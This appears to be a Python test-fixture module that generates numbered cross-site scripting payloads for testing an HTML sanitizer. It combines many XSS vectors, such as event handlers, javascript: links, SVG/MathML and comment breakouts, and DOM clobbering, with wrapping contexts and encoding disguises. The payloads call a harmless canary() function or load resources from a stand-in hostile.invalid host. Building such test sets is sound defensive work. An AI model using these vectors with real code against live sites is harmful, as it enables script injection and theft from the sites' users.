"""Hostile markup of our own making: every vector in every context in every disguise.

Each sample calls `canary(<number>)` if it ever runs, or asks for an address under `hostile.invalid`.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache
from itertools import product


@dataclass(frozen=True)
class Sample:
    """One text and how it was made."""

    number: int
    vector: str
    context: str
    disguise: str
    markup: str


VECTORS = {
    "script": "<script>CODE</script>",
    "script with address": '<script src="http://hostile.invalid/x.js"></script>',
    "script with slash": "<script/x>CODE</script>",
    "image error": "<img src=x onerror=CODE>",
    "image error, quoted": '<img src="x" onerror="CODE">',
    "image error, slashes": "<img/src=x/onerror=CODE>",
    "image error, backquotes": "<img src=`x`onerror=CODE>",
    "image load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=CODE>',
    "image srcset": '<img srcset="http://hostile.invalid/a.png 1x">',
    "old image tag": "<image src=x onerror=CODE>",
    "svg load": "<svg onload=CODE>",
    "svg script": "<svg><script>CODE</script></svg>",
    "svg script, entities": "<svg><script>&#99;anary(N)</script></svg>",
    "svg animate": '<svg><a><animate attributeName=href values="javascript:CODE"/><text y=20>x</text></a></svg>',
    "svg set": "<svg><set onbegin=CODE attributeName=x to=y></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=CODE></svg>#x"/></svg>',
    "svg foreign object": "<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>",
    "svg style": "<svg><style><img src=x onerror=CODE></style></svg>",
    "svg title": "<svg><title><img src=x onerror=CODE></title></svg>",
    "svg desc": '<svg></p><style><g title="</style><img src=x onerror=CODE>">',
    "math mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CODE&gt;">',
    "math annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=CODE></annotation-xml></math>',
    "math link": '<math href="javascript:CODE">click</math>',
    "math form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
    "math mtext style": "<math><mtext><style><img src=x onerror=CODE></style></mtext></math>",
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=CODE>">',
    "noscript style": "<noscript><style></noscript><img src=x onerror=CODE></style>",
    "template": "<template><img src=x onerror=CODE></template>",
    "shadow template": "<div><template shadowrootmode=open><img src=x onerror=CODE></template></div>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=CODE>">',
    "title": '<title><img title="</title><img src=x onerror=CODE>">',
    "xmp": '<xmp><img title="</xmp><img src=x onerror=CODE>">',
    "noembed": '<noembed><img title="</noembed><img src=x onerror=CODE>">',
    "noframes": '<noframes><img title="</noframes><img src=x onerror=CODE>">',
    "iframe text": '<iframe><img title="</iframe><img src=x onerror=CODE>">',
    "plaintext": "<plaintext><img src=x onerror=CODE>",
    "comment": "<!--><img src=x onerror=CODE>-->",
    "comment, bang": "<!--x--!><img src=x onerror=CODE>",
    "comment, dash": "<!---><img src=x onerror=CODE>-->",
    "cdata": "<![CDATA[><img src=x onerror=CODE>]]>",
    "svg cdata": "<svg><![CDATA[><img src=x onerror=CODE>]]></svg>",
    "processing instruction": "<?xml ><img src=x onerror=CODE>?>",
    "conditional comment": "<!--[if gte IE 4]><img src=x onerror=CODE><![endif]-->",
    "iframe": '<iframe src="javascript:parent.CODE"></iframe>',
    "iframe document": '<iframe srcdoc="<img src=x onerror=parent.CODE>"></iframe>',
    "object": '<object data="javascript:CODE"></object>',
    "object, page": '<object data="data:text/html,<script>parent.CODE</script>"></object>',
    "embed": '<embed src="javascript:CODE">',
    "applet": '<applet code="http://hostile.invalid/x.class"></applet>',
    "link": '<a href="javascript:CODE" autofocus onfocus=CODE>click</a>',
    "link, new line": '<a href="java\nscript:CODE">click</a>',
    "link, tab entity": '<a href="java&#9;script:CODE">click</a>',
    "link, no semicolon": '<a href="&#106avascript:CODE">click</a>',
    "link, control": '<a href="\x01javascript:CODE">click</a>',
    "link, capitals": '<a href="JaVaScRiPt:CODE">click</a>',
    "link, vbscript": '<a href="vbscript:CODE">click</a>',
    "link, data": '<a href="data:text/html,<script>CODE</script>">click</a>',
    "link, xlink": '<svg><a xlink:href="javascript:CODE"><text y=20>x</text></a></svg>',
    "link, colon entity": '<a href="javascript&colon;CODE">click</a>',
    "area": '<map><area href="javascript:CODE" shape=default></map>',
    "form": '<form action="javascript:CODE"><input type=submit autofocus onfocus=CODE></form>',
    "form button": '<form><button formaction="javascript:CODE">x</button></form>',
    "input focus": "<input autofocus onfocus=CODE>",
    "select focus": "<select autofocus onfocus=CODE>",
    "details toggle": "<details open ontoggle=CODE><summary>x</summary></details>",
    "video": "<video src=x onerror=CODE></video>",
    "video source": "<video><source onerror=CODE src=x></video>",
    "audio": "<audio src=x onerror=CODE></audio>",
    "marquee": "<marquee onstart=CODE>x</marquee>",
    "body": "<body onload=CODE>",
    "body, page show": "<body onpageshow=CODE>",
    "focus by tab index": "<p tabindex=1 autofocus onfocus=CODE>x</p>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=CODE>x</p>",
    "transition": "<p style='transition:color 1ms' ontransitionend=CODE onpointerrawupdate=CODE>x</p>",
    "style import": "<style>@import 'http://hostile.invalid/x.css';</style>",
    "style image": '<p style="background:url(http://hostile.invalid/x.png)">x</p>',
    "style link": '<link rel=stylesheet href="http://hostile.invalid/x.css">',
    "preload": '<link rel=preload as=image href="http://hostile.invalid/x.png">',
    "old background": '<table background="http://hostile.invalid/x.png"><tr><td>x</table>',
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:CODE">',
    "refresh to a page": '<meta http-equiv=refresh content="0;url=http://hostile.invalid/">',
    "base": '<base href="http://hostile.invalid/"><img src="x.png">',
    "clobber": "<form id=canary><input name=call></form><a id=document name=cookie>x</a>",
    "attribute end": '<p title="&quot;><img src=x onerror=CODE>">x</p>',
    "attribute name": '<p/onclick=CODE"x"><img src=x onerror=CODE>',
    "unclosed": "<img src=x onerror=CODE ",
    "broken tag": "<<img src=x onerror=CODE>",
    "less than in tag": "<img src=x <img onerror=CODE>",
    "null in name": "<scr\x00ipt>CODE</scr\x00ipt>",
    "nested script": "<scr<script></script>ipt>CODE</script>",
    "font styling": '<font color="red;background:url(javascript:CODE)" size="7 onclick=CODE">x</font>',
    "align": "<p align='center\" onclick=\"CODE'>x</p>",
    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=CODE>x</p>",
    "namespace prefix": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">CODE</x:script>',
    "is attribute": "<p is=x onclick=CODE>x</p>",
    "content visibility": "<p oncontentvisibilityautostatechange=CODE style=content-visibility:auto>x</p>",
    "select breakout": "<select><style></select><img src=x onerror=CODE></style></select>",
    "frameset": "<frameset onload=CODE><frame src='javascript:CODE'></frameset>",
}  # fmt: skip

CONTEXTS = {
    "alone": "{}",
    "paragraph": "<p>Mina wrote {} in her journal.</p>",
    "emphasis": "<em><b>{}</b></em>",
    "table": "<table><tr><td>x</td></tr>{}</table>",
    "table cell": "<table><tr><td>{}</td></tr></table>",
    "list": "<ul>{}<li>x</li></ul>",
    "select": "<select><option>{}</option></select>",
    "svg": "<svg>{}</svg>",
    "math": "<math><mi>{}</mi></math>",
    "math text": "<math><mtext>{}</mtext></math>",
    "svg and html": "<svg><desc>{}</desc></svg>",
    "noscript": "<noscript>{}</noscript>",
    "textarea": "<textarea>{}</textarea>",
    "title": "<title>{}</title>",
    "style": "<style>{}</style>",
    "xmp": "<xmp>{}</xmp>",
    "comment": "<!-- {} -->",
    "attribute": '<p title="{}">x</p>',
    "attribute, single": "<p title='{}'>x</p>",
    "alternative text": '<img src="data:x" alt="{}">',
    "heading": "<h2><p>{}</p></h2>",
    "template": "<template>{}</template>",
    "pre": "<pre>\n{}</pre>",
    "form in form": "<form><div></form><form>{}",
    "ruby": "<ruby>x<rt>{}</rt></ruby>",
    "plain text": "One\n\n{}\n\nTwo",
    "old page": "<center><font color=red>{}</font></center>",
    "details": "<details><summary>{}</summary></details>",
}  # fmt: skip


def _escaped(markup: str) -> str:
    return markup.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


DISGUISES = {
    "none": lambda markup: markup,
    "capitals": lambda markup: markup.replace("<s", "<S").replace("<i", "<I").replace(" on", " ON"),
    "escaped once": _escaped,
    "numeric": lambda markup: markup.replace("<", "&#x3c;").replace(">", "&#62"),
    "nulls": lambda markup: markup.replace("<", "<\x00").replace("on", "o\x00n"),
    "wide brackets": lambda markup: markup.replace("<", "\uff1c").replace(">", "\uff1e"),
    "form feeds": lambda markup: markup.replace(" ", "\x0c"),
}


@cache
def samples() -> tuple[Sample, ...]:
    """All of them, numbered."""
    made = []
    for number, (vector, context, disguise) in enumerate(product(VECTORS, CONTEXTS, DISGUISES)):
        inner = DISGUISES[disguise](VECTORS[vector]).replace("CODE", f"canary({number})").replace("(N)", f"({number})")
        markup = CONTEXTS[context].replace("{}", inner)
        made.append(Sample(number=number, vector=vector, context=context, disguise=disguise, markup=markup))
    return tuple(made)
